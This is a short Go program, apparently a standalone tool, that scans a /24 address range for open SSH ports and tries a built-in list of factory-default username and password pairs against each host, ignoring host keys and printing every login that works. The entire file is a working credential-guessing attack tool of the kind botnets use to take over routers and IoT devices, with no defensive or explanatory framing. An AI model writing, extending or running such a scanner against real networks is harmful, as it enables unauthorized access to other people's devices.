package main

import (
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/crypto/ssh"
)

var pairs = [][2]string{{"root", "root"}, {"admin", "admin"}, {"ubnt", "ubnt"}, {"root", "calvin"}, {"pi", "raspberry"}}

func try(addr string) {
	for _, p := range pairs {
		cfg := &ssh.ClientConfig{
			User:            p[0],
			Auth:            []ssh.AuthMethod{ssh.Password(p[1])},
			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
			Timeout:         3 * time.Second,
		}
		c, err := ssh.Dial("tcp", addr, cfg)
		if err != nil {
			continue
		}
		fmt.Println("open", addr, p[0], p[1])
		c.Close()
		return
	}
}

func main() {
	var wg sync.WaitGroup
	for i := 1; i < 255; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			addr := fmt.Sprintf("192.0.2.%d:22", i)
			c, err := net.DialTimeout("tcp", addr, time.Second)
			if err == nil {
				c.Close()
				try(addr)
			}
		}(i)
	}
	wg.Wait()
}
